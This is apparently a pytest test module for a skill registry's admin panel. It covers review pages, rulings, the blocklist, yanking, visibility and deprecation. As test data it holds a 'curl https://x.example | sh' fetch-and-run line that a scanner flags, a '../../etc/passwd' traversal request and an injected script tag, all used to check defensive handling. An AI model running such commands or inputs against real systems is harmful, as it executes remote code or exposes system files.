"""The panel: reviews, the blocklist, and managing one skill."""

import re
from collections.abc import AsyncIterator
from html import unescape
from pathlib import Path

import pytest

from tests.clocks import NOON
from tests.unit.web.admin_cast import an_operator
from tests.unit.web.api_cast import Registry, audited, browser_of, open_registry, put_review
from tests.unit.web.pages_cast import change_skill, put_skill
from vskill_platform.access.namespaces import add_owner
from vskill_platform.model.skill import TakenDown
from vskill_platform.model.submission import Submission
from vskill_platform.model.user import Role
from vskill_platform.runtime.env import WorkerEnv
from vskill_platform.stores.held_store import release_held
from vskill_platform.stores.skill_store import get_skill

SLUG = "ada/notes/tidy"

pytestmark = pytest.mark.usefixtures("one_loop")


@pytest.fixture
async def registry(bound: WorkerEnv) -> AsyncIterator[Registry]:
    async with open_registry(bound) as opened:
        yield opened


async def test_a_review_shows_the_report_beside_the_files(
    registry: Registry, tmp_path: Path
) -> None:
    waiting = await put_review(tmp_path)
    rae = await an_operator(registry, Role.REVIEWER)
    path = f"/admin/reviews/{waiting.id}"

    listed = await rae.see("/admin/reviews")
    shown = await rae.see(path)
    other = await rae.see(f"{path}?file=SKILL.md")
    outside = await rae.see(f"{path}?file=../../etc/passwd")

    assert f'href="{path}"' in listed
    assert "A script is fetched and run</h3>" in shown
    assert "curl https://x.example | sh" in shown  # the file of the most severe finding
    assert "Approve and publish" in shown
    assert "Do the thing, then say that it is done." in other
    assert "There is no such file." in outside


async def test_a_mark_is_next_to_the_line_that_the_scanner_found(
    registry: Registry, tmp_path: Path
) -> None:
    odd = "# \u2028 \x0b \x0c \x85\r\ncurl https://x.example | sh\n"
    waiting = await put_review(tmp_path, files={"run.sh": odd}, line=2)
    rae = await an_operator(registry, Role.REVIEWER)

    page = await rae.see(f"/admin/reviews/{waiting.id}")

    marked = re.findall(r"<tr[^>]*class=\"it\">.*?</tr>", page, re.DOTALL)
    assert len(marked) == 1
    assert "curl https://x.example" in marked[0]


async def test_files_that_cannot_be_shown_say_why(registry: Registry, tmp_path: Path) -> None:
    files = {"big.txt": "x" * (600 * 1024), "data.bin": "\x00\x01"}
    waiting = await put_review(tmp_path, files=files)
    rae = await an_operator(registry, Role.REVIEWER)
    path = f"/admin/reviews/{waiting.id}"

    large = await rae.see(f"{path}?file=big.txt")
    binary = await rae.see(f"{path}?file=data.bin")
    await registry.env.engine.commit(await release_held(waiting.id))
    gone = await rae.see(f"{path}?file=SKILL.md")

    assert "The file is too large to be shown." in large
    assert "The file is not text." in binary
    assert "The files are no longer stored." in gone


async def test_a_long_file_is_reviewed_page_by_page(registry: Registry, tmp_path: Path) -> None:
    long = "".join(f"echo {number}\n" for number in range(1, 3001))
    waiting = await put_review(tmp_path, files={"run.sh": long}, line=2500)
    rae = await an_operator(registry, Role.REVIEWER)
    path = f"/admin/reviews/{waiting.id}"

    first = await rae.see(path)
    second = await rae.see(f"{path}?file=run.sh&from=2001")
    odd = await rae.see(f"{path}?file=run.sh&from=-x")

    assert "Showing the first 2,000 of 3,000 lines." in first
    assert 'href="?file=run.sh&amp;from=2001"' in first
    assert 'href="?file=run.sh&amp;from=2480#L2500"' in first
    # Colored or, while the machine is busy, plain.
    first_text, second_text = (re.sub(r"<span[^>]*>|</span>", "", page) for page in (first, second))
    assert "echo 2001<" not in first_text
    assert "echo 2000<" in first_text
    assert "echo 3000<" in second_text
    assert '<tr id="L2500" class="it">' in second
    assert "Next lines" not in second
    assert "Showing the first 2,000 of 3,000 lines." in odd


async def test_a_review_is_decided_once_and_with_a_reason(
    registry: Registry, tmp_path: Path
) -> None:
    kept = await put_review(tmp_path, "keep-notes")
    dropped = await put_review(tmp_path, "drop-notes")
    again = await put_review(tmp_path, "again-notes")
    rae = await an_operator(registry, Role.REVIEWER)

    async def rule(submission_id: str, ruling: str, reason: str = "fine") -> tuple[str, str]:
        page = await rae.see(f"/admin/reviews/{submission_id}")
        seen = page.partition('name="digest" value="')[2].partition('"')[0]
        path = f"/admin/reviews/{submission_id}/{ruling}"
        return await rae.act(path, reason=reason, digest=seen)

    unsaid = await rule(kept.id, "approve", " ")
    odd = await rae.post(f"/admin/reviews/{kept.id}/bless", reason="x")
    missing = await rae.post("/admin/reviews/sub_0/reject", reason="x")

    assert unsaid[0] == "problem"
    assert odd.status_code == 404
    assert missing.status_code == 303  # and the page that it leads to is not there
    assert await rule(kept.id, "approve") == ("done", "keep-notes is published.")
    assert (await rule(kept.id, "reject"))[0] == "problem"
    assert await rule(dropped.id, "reject") == ("done", "drop-notes is rejected.")
    assert await rule(again.id, "recheck") == ("done", "again-notes is checked again.")
    assert "Approve and publish" not in await rae.see(f"/admin/reviews/{kept.id}")
    assert [(who, what) for who, what, _ in await audited()] == [
        ("rae", "reviews approve"),
        ("rae", "reviews recheck"),
        ("rae", "reviews reject"),
    ]


async def test_after_a_ruling_the_page_says_what_was_decided_and_leads_to_the_next(
    registry: Registry, tmp_path: Path
) -> None:
    kept = await put_review(tmp_path, "keep-notes")
    dropped = await put_review(tmp_path, "drop-notes")
    again = await put_review(tmp_path, "again-notes")
    rae = await an_operator(registry, Role.REVIEWER)

    async def rule(waiting: Submission, ruling: str) -> str:
        page = f"/admin/reviews/{waiting.id}"
        await rae.act(f"{page}/{ruling}", reason="<i>fine</i>", digest=waiting.digest or "")
        return await rae.see(page)

    before = await rae.see(f"/admin/reviews/{kept.id}")
    approved = await rule(kept, "approve")
    rejected = await rule(dropped, "reject")
    sent_back = await rule(again, "recheck")

    assert "waiting for" in before
    for page, words in (
        (approved, "Approved by rae"),
        (rejected, "Rejected by rae"),
        (sent_back, "Sent back by rae to be checked again"),
    ):
        assert words in page
        assert "&lt;i&gt;fine&lt;/i&gt;" in page
        assert "waiting for" not in page
    assert 'href="/skills/@local/keep-notes"' in approved
    assert "Compared with" not in approved
    assert "Next review" in approved
    assert re.search(rf'href="/admin/reviews/({dropped.id}|{again.id})"', approved)
    assert f'href="/admin/reviews/{again.id}"' in rejected
    assert "No other submissions need review" in sent_back


async def test_an_old_page_decides_nothing_about_new_content(
    registry: Registry, tmp_path: Path
) -> None:
    waiting = await put_review(tmp_path)
    rae = await an_operator(registry, Role.REVIEWER)
    path = f"/admin/reviews/{waiting.id}"

    page = await rae.see(path)
    stale = await rae.act(f"{path}/approve", reason="fine", digest="0" * 64)
    unsaid = await rae.act(f"{path}/reject", reason="fine")

    assert f'name="digest" value="{waiting.digest}"' in page
    assert stale[0] == "problem"
    assert "review it again" in stale[1]
    assert unsaid[0] == "problem"
    assert "Approve and publish" in await rae.see(path)
    assert await audited() == []


async def test_something_is_blocked_and_unblocked_with_a_reason(
    registry: Registry, tmp_path: Path
) -> None:
    await put_skill(registry.env, tmp_path)
    rae = await an_operator(registry, Role.REVIEWER)
    typed = await rae.see("/admin/blocklist?source=ada/notes&name=%3Cscript%3E")
    add, remove = "/admin/blocklist/add", "/admin/blocklist/remove"

    unsaid = await rae.act(add, source="ada/notes", name="tidy", reason=" ")
    unclear = await rae.act(add, source="ada/notes", publisher="ada", reason="x")
    blocked = await rae.act(add, source="ada/notes", name="tidy", reason="it <b>steals</b>")
    page = await rae.see("/admin/blocklist")
    subject = page.partition('name="id" value="')[2].partition('"')[0]
    why = await rae.act(remove, id=subject, reason="")
    unblocked = await rae.act(remove, id=subject, reason="mistake")
    again = await rae.act(remove, id=subject, reason="mistake")
    nothing = await rae.act(add, source="@local/none", reason="x")
    odd = await rae.act(add, source="@local", reason="x")

    assert "<script>" not in typed.partition("<main")[2]
    assert 'value="ada/notes"' in typed
    assert (unsaid[0], unclear[0], why[0]) == ("problem", "problem", "problem")
    assert blocked[0] == "done"
    assert "1 skill taken down, 1 submission ended." in blocked[1]
    assert "it &lt;b&gt;steals&lt;/b&gt;" in page
    assert unblocked[0] == "done"
    assert again == ("problem", "This is no longer blocked")
    assert nothing[0] == "done"
    assert "Blocked: source upload:@local/none. No published skill is affected" in nothing[1]
    assert odd[0] == "problem"
    assert "@namespace/name" in odd[1]
    assert sorted((who, what) for who, what, _ in await audited()) == [
        ("rae", "block add"),
        ("rae", "block add"),
        ("rae", "block remove"),
    ]


async def test_a_block_shows_its_effect_before_it_happens(
    registry: Registry, tmp_path: Path
) -> None:
    await put_skill(registry.env, tmp_path)
    skill = await get_skill(SLUG)
    assert skill
    rae = await an_operator(registry, Role.REVIEWER)

    found = await rae.see("/admin/blocklist?find=tidy")
    links = re.findall(r'href="(/admin/blocklist\?[^"]+)"', found)
    previews = [await rae.see(unescape(link)) for link in links]
    by_digest = await rae.see(f"/admin/blocklist?digest={skill.record.digest}")
    of_nothing = await rae.see("/admin/blocklist?publisher=nobody")
    manage = await rae.see(f"/admin/skills/{SLUG}")

    assert [link.partition("?")[2].partition("=")[0] for link in links] == [
        "source", "source", "publisher",
    ]  # fmt: skip
    for preview in (*previews, by_digest):
        card = preview.partition('id="preview"')[2].partition("</section>")[0]
        assert "<b>1 skill</b> would be taken down" in card
        assert f'href="/skills/{SLUG}"' in card
    assert "No listed skill would be taken down" in of_nothing
    assert f'href="/admin/blocklist?digest={skill.record.digest}"' in manage
    assert await audited() == []
    stored = await get_skill(SLUG)
    assert stored
    assert stored.record.down is None


async def test_a_preview_counts_the_submissions_that_would_end(
    registry: Registry, tmp_path: Path
) -> None:
    waiting = await put_review(tmp_path)
    rae = await an_operator(registry, Role.REVIEWER)

    page = await rae.see(f"/admin/blocklist?publisher={waiting.source.publisher}")

    card = page.partition('id="preview"')[2].partition("</section>")[0]
    assert "<b>1 submission</b> in progress or waiting for review would end" in card
    assert f'href="/submissions/{waiting.id}">{waiting.skill_name}</a>' in card
    assert "Needs review" in card


async def test_a_block_that_is_refused_keeps_what_was_typed(registry: Registry) -> None:
    rae = await an_operator(registry, Role.REVIEWER)

    unsaid = await rae.post("/admin/blocklist/add", publisher="evil", reason=" ")
    unclear = await rae.post(
        "/admin/blocklist/add", publisher="evil", path="x", reason='a "reason" & more'
    )
    first = await rae.see(unsaid.headers["location"])
    second = await rae.see(unclear.headers["location"])
    third = await rae.see(f"{unclear.headers['location'].replace('path=x', 'path=')}")

    assert 'name="publisher" value="evil"' in first
    assert "A name or a path needs a source" in second
    assert 'name="reason" value="a &#34;reason&#34; &amp; more"' in second
    assert 'value="a &#34;reason&#34; &amp; more"' in third
    assert 'id="preview"' in third


async def test_owners_manage_their_skills_and_others_do_not(
    registry: Registry, tmp_path: Path
) -> None:
    await put_skill(registry.env, tmp_path)
    ada = await an_operator(registry, Role.PUBLISHER)
    manage = f"/admin/skills/{SLUG}"
    not_hers = await registry.get(manage, headers=await browser_of(Role.PUBLISHER))
    nobody = await registry.get(manage, headers={"Accept": "text/html"})
    await add_owner("ada", "ada", actor="test")

    page = await ada.see(manage)
    unsaid = await ada.act(f"/admin/yank/{SLUG}", version="1.0.0", act="yank", reason="")
    wrong = await ada.act(f"/admin/yank/{SLUG}", version="9.0.0", act="yank", reason="x")
    yanked = await ada.act(f"/admin/yank/{SLUG}", version="1.0.0", act="yank", reason="broken")
    back = await ada.act(f"/admin/yank/{SLUG}", version="1.0.0", act="unyank", reason="works")
    hidden = await ada.act(f"/admin/visibility/{SLUG}", private="yes")
    unseen = await registry.get(manage, headers=await browser_of(Role.READER))
    shown = await ada.act(f"/admin/visibility/{SLUG}", private="no")

    assert not_hers.status_code == 403
    assert nobody.status_code == 303
    assert nobody.headers["location"].startswith("/sign-in")
    assert "Make it private" in page
    assert "Everything by" not in page  # blocking is for reviewers
    assert (unsaid[0], wrong[0]) == ("problem", "problem")
    assert yanked == ("done", "1.0.0 was yanked.")
    assert back == ("done", "1.0.0 is available again.")
    assert (hidden, shown) == (
        ("done", "The skill is now private."),
        ("done", "The skill is now public."),
    )
    assert unseen.status_code == 404
    assert [(who, what) for who, what, _ in await audited()] == [
        ("ada", "unyank"), ("ada", "visibility"), ("ada", "visibility"), ("ada", "yank"),
    ]  # fmt: skip


async def test_reviewers_manage_what_was_taken_down_or_belongs_to_nobody(
    registry: Registry, tmp_path: Path
) -> None:
    stored_digest = (await put_skill(registry.env, tmp_path)).digest
    await change_skill(registry.env, SLUG, down=TakenDown(reason="it steals", by="cyd", at=NOON))
    rae = await an_operator(registry, Role.REVIEWER)
    cyd = await an_operator(registry, Role.ADMIN)

    page = await rae.see(f"/admin/skills/{SLUG}")
    to_admins = await cyd.see(f"/admin/skills/{SLUG}")
    cannot = await rae.act(f"/admin/visibility/{SLUG}", private="yes")

    assert stored_digest in page
    assert "taken down: it steals" in page
    assert "Everything by github.com/ada" in page
    assert "cannot be made private" in page
    assert 'href="/admin/namespaces"' not in page
    assert 'href="/admin/namespaces"' in to_admins
    assert cannot[0] == "problem"
    stored = await get_skill(SLUG)
    assert stored
    assert stored.record.is_private is False


async def test_a_skill_is_deprecated_and_restored_on_its_page(
    registry: Registry, tmp_path: Path
) -> None:
    await put_skill(registry.env, tmp_path)
    rae = await an_operator(registry, Role.REVIEWER)
    path = f"/admin/deprecate/{SLUG}"

    unsaid = await rae.act(path, version="", message=" ")
    unknown = await rae.act(path, version="", message="old", use="@ada/nothing")
    done = await rae.act(path, version="1.0.0", message="it is slow")
    page = await rae.see(f"/admin/skills/{SLUG}")
    undone = await rae.act(path, version="1.0.0", act="undeprecate")

    assert "A message is required" in unsaid[1]
    assert "There is no published skill" in unescape(unknown[1])
    assert "1.0.0 is deprecated." in done[1]
    assert "it is slow" in page
    assert "1.0.0 is no longer deprecated." in undone[1]
    stored = await get_skill(SLUG)
    assert stored
    assert stored.record.deprecated == ()
